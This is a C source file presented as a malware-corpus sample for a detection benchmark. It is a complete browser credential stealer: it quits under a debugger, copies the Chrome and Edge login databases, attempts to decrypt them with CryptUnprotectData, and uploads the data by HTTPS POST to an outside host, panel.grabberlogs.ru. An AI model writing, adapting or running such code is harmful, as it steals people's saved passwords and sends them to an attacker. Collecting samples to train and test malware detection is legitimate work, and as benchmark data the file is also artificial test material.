// maljan-corpus: quits under a debugger, reads the browsers' credential stores and uploads them.
// behaviour: credential-access exfiltration anti-analysis
// imports: kernel32.dll!IsDebuggerPresent kernel32.dll!CopyFileW crypt32.dll!CryptUnprotectData winhttp.dll!WinHttpOpen winhttp.dll!WinHttpConnect winhttp.dll!WinHttpSendRequest
// link: -lcrypt32 -lwinhttp
// Corpus data for the verdict benchmark: compiled, never run.
#include <windows.h>
#include <wincrypt.h>
#include <winhttp.h>
#include <stdio.h>

static const wchar_t *STORES[] = {
    L"\\Google\\Chrome\\User Data\\Default\\Login Data",
    L"\\Google\\Chrome\\User Data\\Local State",
    L"\\Microsoft\\Edge\\User Data\\Default\\Login Data",
};

int main(void) {
    if (IsDebuggerPresent()) return 0;
    wchar_t base[MAX_PATH], src[MAX_PATH], tmp[MAX_PATH];
    GetEnvironmentVariableW(L"LOCALAPPDATA", base, MAX_PATH);
    static BYTE blob[1 << 16];
    DWORD total = 0;
    for (unsigned i = 0; i < 3; i++) {
        swprintf(src, MAX_PATH, L"%ls%ls", base, STORES[i]);
        swprintf(tmp, MAX_PATH, L"C:\\Users\\Public\\s%u.db", i);
        if (!CopyFileW(src, tmp, FALSE)) continue;
        HANDLE f = CreateFileW(tmp, GENERIC_READ, 0, NULL, OPEN_EXISTING, 0, NULL);
        DWORD got = 0;
        ReadFile(f, blob + total, sizeof blob - total, &got, NULL);
        CloseHandle(f);
        DATA_BLOB in = {got, blob + total}, out;
        if (CryptUnprotectData(&in, NULL, NULL, NULL, NULL, 0, &out)) LocalFree(out.pbData);
        total += got;
    }
    HINTERNET s = WinHttpOpen(L"Mozilla/5.0", WINHTTP_ACCESS_TYPE_DEFAULT_PROXY, NULL, NULL, 0);
    HINTERNET c = WinHttpConnect(s, L"panel.grabberlogs.ru", INTERNET_DEFAULT_HTTPS_PORT, 0);
    HINTERNET r = WinHttpOpenRequest(c, L"POST", L"/upload.php", NULL, NULL, NULL, WINHTTP_FLAG_SECURE);
    WinHttpSendRequest(r, WINHTTP_NO_ADDITIONAL_HEADERS, 0, blob, total, total, 0);
    WinHttpCloseHandle(r);
    WinHttpCloseHandle(c);
    WinHttpCloseHandle(s);
    return 0;
}
